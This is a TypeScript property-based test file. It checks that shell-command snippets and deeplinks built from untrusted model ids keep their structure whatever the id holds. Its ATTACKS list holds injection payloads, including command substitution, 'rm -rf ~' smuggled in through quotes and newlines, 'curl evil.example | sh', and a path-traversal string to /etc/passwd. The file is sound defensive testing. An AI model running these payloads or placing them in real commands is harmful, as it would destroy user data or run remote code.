// Model records come from strangers. Whatever a record holds, no app throws, a command keeps the shell
// structure it has for an ordinary id (the id stays one word of data), and a link keeps its scheme, host,
// path prefix and query keys (the id stays one value).
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ModelData } from "../model-data";
import { shellShape } from "../test-support/shell-words";
import { LOCAL_APPS, type LocalApp, type LocalAppSnippet } from "./index";

const ATTACKS = [
  "org/$(touch /tmp/pwned)",
  "org/`id`",
  "org/x'; rm -rf ~; echo '",
  'org/x"; rm -rf ~; echo "',
  "org/x\nrm -rf ~",
  "org/x && curl evil.example | sh",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, on purpose
  "org/${HOME}",
  "org/*",
  "org/{a,b}",
  "org/x\\",
  "-rf /",
  "org/x#y?z=1",
  "../../../etc/passwd",
  "org/\u202eexe.gguf",
  "",
];

const FILES = [undefined, "model-Q4_K_M.gguf", "$(id).gguf", "a'b Q8_0.gguf", "x\ny.gguf"];

const base: ModelData = {
  id: "org/model",
  tags: ["gguf", "conversational", "transformers", "mlx", "lora", "safetensors", "text-generation-inference"],
  pipeline_tag: "text-generation",
  library_name: "diffusers",
  gguf: { total: 1, context_length: 4096, chat_template: "{{ tools }}" },
};

const entries = Object.entries(LOCAL_APPS) as Array<[string, LocalApp]>;

/** Every shell script an app's snippet holds: setups and commands. */
function scripts(output: ReturnType<Extract<LocalApp, { snippet: unknown }>["snippet"]>): string[] {
  const sections: Array<string | LocalAppSnippet> = Array.isArray(output) ? output : [output];
  return sections.flatMap((section) =>
    typeof section === "string" ? [section] : [section.setup ?? "", ...[section.content].flat()],
  );
}

/** The structure of a script: operators in order, how many words, what the shell would expand. */
function structure(script: string): unknown {
  // The page fills the placeholders in before the user sees the command.
  const filled = script.replaceAll("{{QUANT_TAG}}", "Q4_K_M").replaceAll("{{GGUF_FILE}}", "model.gguf");
  // A file to write (Pi's models.json) is JSON after its comment line: its keys and nesting must not change.
  const body = filled.replace(/^#.*\n/, "");
  if (body.startsWith("{"))
    return { json: JSON.stringify(JSON.parse(body), (_key, value) => (typeof value === "string" ? "" : value)) };
  const { tokens, expansions } = shellShape(filled);
  return {
    operators: tokens.filter((token) => token.kind === "operator").map((token) => token.text),
    words: tokens.filter((token) => token.kind === "word").length,
    expansions,
  };
}

describe.each(entries)("%s on hostile records", (_key, app) => {
  it("never throws, whatever the record", () => {
    fc.assert(
      fc.property(fc.anything(), fc.option(fc.string(), { nil: undefined }), (record, file) => {
        const model = record as ModelData;
        expect(typeof app.displayOnModelPage(model)).toBe("boolean");
        if ("snippet" in app) scripts(app.snippet(model, file));
        else expect(app.deeplink(model, file)).toBeInstanceOf(URL);
      }),
      { numRuns: 200 },
    );
  });

  if ("snippet" in app) {
    const ordinary = (file: string | undefined) => scripts(app.snippet(base, file)).map(structure);
    it.each(ATTACKS)("keeps the id %j one word of data", (id) => {
      for (const file of FILES) {
        expect(scripts(app.snippet({ ...base, id }, file)).map(structure)).toEqual(
          ordinary(file === undefined ? undefined : "model-Q4_K_M.gguf"),
        );
      }
    });
    it("keeps any id one word of data", () => {
      fc.assert(
        fc.property(fc.string({ unit: "binary" }), (id) => {
          expect(scripts(app.snippet({ ...base, id })).map(structure)).toEqual(ordinary(undefined));
        }),
        { numRuns: 300 },
      );
    });
  } else {
    const ordinary = app.deeplink(base, "model-Q4_K_M.gguf");
    // Everything before the id: scheme, host, the fixed path and, for query links, the first key.
    const stem = ordinary.href.slice(0, ordinary.href.search(/org(\/|%2F)model/));
    it("keeps any id one value of the link", () => {
      fc.assert(
        fc.property(
          fc.constantFrom(...ATTACKS).chain((attack) => fc.oneof(fc.constant(attack), fc.string({ unit: "binary" }))),
          (id) => {
            const link = app.deeplink({ ...base, id }, "model-Q4_K_M.gguf");
            expect([link.protocol, link.host, link.hash, link.href.startsWith(stem)]).toEqual([
              ordinary.protocol,
              ordinary.host,
              "",
              true,
            ]);
            expect([...link.searchParams.keys()]).toEqual([...ordinary.searchParams.keys()]);
            const carried =
              [...link.searchParams.values()].includes(id) || decodeURIComponent(link.pathname).endsWith(id);
            expect(carried || id === "").toBe(true);
          },
        ),
        { numRuns: 300 },
      );
    });
  }
});
